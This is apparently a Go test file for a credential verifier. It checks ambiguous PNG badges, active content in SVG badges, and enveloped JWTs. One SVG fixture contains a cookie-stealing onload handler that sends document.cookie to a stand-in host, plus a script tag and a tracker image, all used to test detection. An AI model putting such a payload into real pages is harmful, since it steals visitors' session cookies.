package credential_test

import (
	"bytes"
	"context"
	"encoding/binary"
	"hash/crc32"
	"image"
	"image/png"
	"strings"
	"testing"

	"github.com/attesta/attesta/credential"
	"github.com/attesta/attesta/internal/vc/bake"
)

// pngChunk encodes one PNG chunk.
func pngChunk(typ string, data []byte) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(len(data)))
	b = append(b, typ...)
	b = append(b, data...)
	return binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE(b[4:]))
}

// A baked PNG that carries, besides its credential, another text chunk
// with a credential-like keyword does not verify: it is ambiguous, whatever
// the credential it carries.
func TestAmbiguousPNGRefused(t *testing.T) {
	e := newEnv(t)
	rec := e.issue(t, credential.RDFC)
	var img bytes.Buffer
	png.Encode(&img, image.NewGray(image.Rect(0, 0, 2, 2)))
	baked, err := bake.BakePNG(img.Bytes(), rec.Body)
	if err != nil {
		t.Fatal(err)
	}
	if rep := e.verifier.Verify(context.Background(), baked); !rep.Verified {
		t.Fatalf("the baked badge: %+v", rep.Checks)
	}
	iend := len(baked) - 12
	for _, chunk := range [][]byte{
		pngChunk("tEXt", []byte("openbadges\x00https://example.org/assertion")),
		pngChunk("zTXt", []byte("openbadgecredential\x00\x00x\x9c")),
		pngChunk("iTXt", []byte("OpenBadges\x00\x00\x00\x00\x00{}")),
	} {
		ambiguous := append(append(bytes.Clone(baked[:iend]), chunk...), baked[iend:]...)
		rep := e.verifier.Verify(context.Background(), ambiguous)
		c := check(t, rep, credential.CheckFormat, credential.Fail)
		if rep.Verified || c.Reason.Key != "verify.format.ambiguous" || !strings.Contains(c.Detail, "besides the credential") {
			t.Errorf("a PNG with a %q chunk besides the credential: verified=%t %+v", chunk[4:8], rep.Verified, c)
		}
	}
}

// A baked SVG's picture is checked for active content: a credential in a
// picture with a script or an event handler still verifies, and the
// picture is reported in Italian and English, with what it would run.
func TestSVGActiveContentReported(t *testing.T) {
	e := newEnv(t)
	rec := e.issue(t, credential.RDFC)
	const image, warn = credential.CheckID("image"), credential.Outcome("warn")
	clean, err := bake.BakeSVG([]byte(`<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>`), rec.Body)
	if err != nil {
		t.Fatal(err)
	}
	rep := e.verifier.Verify(context.Background(), clean)
	if c := check(t, rep, image, credential.Pass); !rep.Verified || c.Reason.Key != "verify.image.clean" {
		t.Errorf("a clean picture: verified=%t %+v", rep.Verified, c)
	}
	active, err := bake.BakeSVG([]byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('https://x.example/?'+document.cookie)">`+
		`<script>alert(1)</script><image href="https://tracker.example/p.png"/></svg>`), rec.Body)
	if err != nil {
		t.Fatal(err)
	}
	rep = e.verifier.Verify(context.Background(), active)
	c := check(t, rep, image, warn)
	if !rep.Verified || rep.Input != "svg" {
		t.Errorf("the credential in a picture with active content: verified=%t input=%s", rep.Verified, rep.Input)
	}
	for _, want := range []string{"handler attribute onload of <svg>", "script element <script>", `reference attribute href of <image> ("https://tracker.example/p.png")`} {
		if !strings.Contains(c.Detail, want) {
			t.Errorf("detail %q does not say %q", c.Detail, want)
		}
	}
	if !strings.Contains(c.Reason.IT, "3 contenuti attivi") || !strings.Contains(c.Reason.EN, "3 active contents") {
		t.Errorf("reason: %q / %q", c.Reason.IT, c.Reason.EN)
	}
}

// A JWT credential as attesta's API returns it, in an
// EnvelopedVerifiableCredential, verifies as it is.
func TestEnvelopedJWT(t *testing.T) {
	e := newEnv(t)
	rec := e.issue(t, credential.JWT)
	env := `{"@context":["https://www.w3.org/ns/credentials/v2"],"id":"data:application/vc+jwt,` + string(rec.Body) + `","type":"EnvelopedVerifiableCredential"}`
	// The signature with its first character changed.
	sig := strings.LastIndexByte(string(rec.Body), '.') + 1
	altered := string(rec.Body[:sig]) + map[bool]string{true: "B", false: "A"}[rec.Body[sig] == 'A'] + string(rec.Body[sig+1:])
	rep := e.verifier.Verify(context.Background(), []byte(env))
	if !rep.Verified || rep.Input != "jwt" || rep.CredentialID != rec.ID {
		t.Errorf("the enveloped JWT: verified=%t input=%s id=%s %+v", rep.Verified, rep.Input, rep.CredentialID, rep.Checks)
	}
	for name, bad := range map[string]string{
		"another media type": strings.Replace(env, "vc+jwt", "vc+sd-jwt", 1),
		"no VC context":      strings.Replace(env, "credentials/v2", "credentials/v1", 1),
		"altered JWT":        strings.Replace(env, string(rec.Body), altered, 1),
	} {
		if rep := e.verifier.Verify(context.Background(), []byte(bad)); rep.Verified {
			t.Errorf("%s: verified", name)
		}
	}
}
